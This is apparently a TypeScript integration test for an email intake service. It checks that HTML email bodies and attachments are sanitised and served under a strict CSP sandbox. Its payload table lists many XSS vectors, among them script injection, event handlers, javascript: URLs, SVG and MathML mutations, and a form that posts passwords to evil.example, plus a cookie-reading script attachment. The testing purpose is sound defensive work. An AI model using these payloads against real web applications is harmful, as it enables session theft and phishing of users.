import type { INestApplicationContext } from '@nestjs/common';
import type { NestExpressApplication } from '@nestjs/platform-express';
import type { Agent } from 'supertest';
import { binary, INBOUND_TOKEN, postEmail, uniqueId, waitForProcessed } from '../support/intake';
import { prepareTestEnv, signedInAgent, startApi, startWorker, type TestEnv } from '../support/test-app';
import { withDb } from '../support/test-database';

/** Hostile HTML bodies: each must be stored and served inert. */
const PAYLOADS: Record<string, string> = {
  'script tag': '<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script split by a comment': '<scr<!-- -->ipt>alert(1)</script>',
  'event handlers':
    '<img src=x onerror=alert(1)><body onload=alert(1)><div onmouseover="alert(1)">x</div><a href="#" onclick="alert(1)">c</a>',
  'javascript: links':
    '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a><a href=" javascript:alert(1)">d</a>',
  'vbscript: and data: links':
    '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
  'data: images': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'srcset and remote images':
    '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x" src="https://tracker.example/pixel.gif">',
  svg: '<svg onload="alert(1)"><script>alert(1)</script><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'css expression and url(javascript:)':
    '<p style="width: expression(alert(1))">a</p><div style="background:url(javascript:alert(1))">b</div><span style="behavior:url(x.htc)">c</span>',
  'style element and import':
    '<style>@import url(https://evil.example/x.css); body{background:url(javascript:alert(1))}</style><p>after</p>',
  'meta refresh':
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  'base href': '<base href="https://evil.example/"><a href="/phish">login</a>',
  'forms and inputs':
    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
  'iframes, objects and embeds':
    '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
  'link and template':
    '<link rel="stylesheet" href="https://evil.example/x.css"><template><script>alert(1)</script></template>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'entity-encoded tags stay text': '&lt;script&gt;alert(1)&lt;/script&gt;',
};

function hostileEmail(subject: string, html: string): Buffer {
  return Buffer.from(
    [
      'From: Mallory <mallory@evil.example>',
      'To: campaigns@campaign-desk.local',
      `Subject: XSS ${subject}`,
      `Message-ID: <${uniqueId('xss')}>`,
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      `<html><head><title>t</title></head><body>${html}</body></html>`,
      '',
    ].join('\r\n'),
  );
}

function assertInert(html: string): void {
  expect(html).not.toMatch(
    /<(script|style|iframe|object|embed|applet|form|input|button|svg|math|meta|base|link|template|noscript|frame)\b/i,
  );
  expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/<[^>]*=\s*["']?\s*(javascript|vbscript|data):/i);
  expect(html).not.toMatch(/<[^>]*\s(src|srcset|formaction|action|background)\s*=/i);
  expect(html).not.toMatch(/<[^>]*style="[^"]*(url|expression|behavior)/i);
}

describe('untrusted HTML stays inert', () => {
  let env: TestEnv;
  let app: NestExpressApplication;
  let worker: INestApplicationContext;
  let caseworker: Agent;
  const ids = new Map<string, string>();

  beforeAll(async () => {
    env = await prepareTestEnv({ INBOUND_TOKEN });
    app = await startApi();
    worker = await startWorker();
    ({ agent: caseworker } = await signedInAgent(app, 'caseworker'));
    for (const [name, html] of Object.entries(PAYLOADS)) {
      const res = await postEmail(app, hostileEmail(name, html)).expect(202);
      ids.set(name, res.body.messageId);
    }
    await waitForProcessed(env.databaseUrl, [...ids.values()]);
  });
  afterAll(async () => {
    await worker?.close();
    await app?.close();
  });

  it.each(Object.keys(PAYLOADS))('stores %s inert', async (name) => {
    const { html_sanitised: html } = await withDb(
      env.databaseUrl,
      async (db) => (await db.query(`SELECT html_sanitised FROM messages WHERE id = $1`, [ids.get(name)])).rows[0],
    );
    expect(typeof html).toBe('string');
    assertInert(html);
  });

  it.each(Object.keys(PAYLOADS))('serves %s as a sandboxed document under a strict CSP', async (name) => {
    const res = await caseworker.get(`/api/messages/${ids.get(name)}/html`).expect(200);
    expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
    const csp = res.headers['content-security-policy'];
    expect(csp).toMatch(/^default-src 'none';/);
    expect(csp).toMatch(/\bsandbox\b/);
    expect(csp).not.toMatch(/script-src|allow-scripts|allow-same-origin|img-src/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    const body = res.text.replace(
      /^<!doctype html><html><head><meta charset="utf-8"><meta name="referrer" content="no-referrer"><style>[^<]*<\/style><\/head><body>/,
      '',
    );
    assertInert(body);
  });

  it('keeps remote images blocked until "load images", then allows only https images', async () => {
    const id = ids.get('srcset and remote images');
    const blocked = await caseworker.get(`/api/messages/${id}/html`).expect(200);
    expect(blocked.text).toContain('data-remote-src="https://tracker.example/pixel.gif"');
    expect(blocked.text).not.toMatch(/\ssrc="https:\/\/tracker/);
    expect(blocked.text).not.toContain('evil.example');
    const loaded = await caseworker.get(`/api/messages/${id}/html?images=1`).expect(200);
    expect(loaded.text).toContain(' src="https://tracker.example/pixel.gif"');
    expect(loaded.headers['content-security-policy']).toContain('img-src data: https:');
    expect(loaded.headers['content-security-policy']).not.toMatch(/script-src|allow-scripts/);
    await caseworker.get(`/api/messages/${id}/html?images=yes`).expect(400);
  });

  it('keeps entity-encoded markup as text', async () => {
    const res = await caseworker.get(`/api/messages/${ids.get('entity-encoded tags stay text')}/html`).expect(200);
    expect(res.text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });

  it('serves an attachment that claims to be HTML as a download of checked type, never inline', async () => {
    const raw = Buffer.from(
      [
        'From: Mallory <mallory@evil.example>',
        'Subject: attachment',
        `Message-ID: <${uniqueId('att')}>`,
        'MIME-Version: 1.0',
        'Content-Type: multipart/mixed; boundary="b"',
        '',
        '--b',
        'Content-Type: text/plain',
        '',
        'see attached',
        '--b',
        'Content-Type: text/html; name="invoice.html"',
        'Content-Disposition: attachment; filename="invoice.html"',
        '',
        '<script>alert(document.cookie)</script>',
        '--b',
        'Content-Type: image/png; name="photo.png"',
        'Content-Disposition: attachment; filename="photo.png"',
        'Content-Transfer-Encoding: base64',
        '',
        Buffer.from('%PDF-1.4 not really a png').toString('base64'),
        '--b--',
        '',
      ].join('\r\n'),
    );
    const res = await postEmail(app, raw).expect(202);
    await waitForProcessed(env.databaseUrl, [res.body.messageId]);
    const detail = await caseworker.get(`/api/messages/${res.body.messageId}`).expect(200);
    expect(detail.body.attachments).toEqual([
      { n: 0, filename: 'invoice.html', contentType: 'application/octet-stream', size: 40, inline: false },
      { n: 1, filename: 'photo.png', contentType: 'application/pdf', size: 25, inline: false },
    ]);
    const html = await caseworker
      .get(`/api/messages/${res.body.messageId}/attachments/0`)
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(html.headers['content-type']).toBe('application/octet-stream');
    expect(html.headers['content-disposition']).toBe('attachment; filename=invoice.html');
    expect(html.headers['x-content-type-options']).toBe('nosniff');
    expect(html.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    const pdf = await caseworker
      .get(`/api/messages/${res.body.messageId}/attachments/1`)
      .buffer(true)
      .parse(binary)
      .expect(200);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(Buffer.from(pdf.body).toString()).toBe('%PDF-1.4 not really a png');
    await caseworker.get(`/api/messages/${res.body.messageId}/attachments/2`).expect(404);
    await caseworker.get(`/api/messages/${res.body.messageId}/attachments/-1`).expect(404);
    await caseworker.get(`/api/messages/${res.body.messageId}/attachments/x`).expect(404);
  });
});
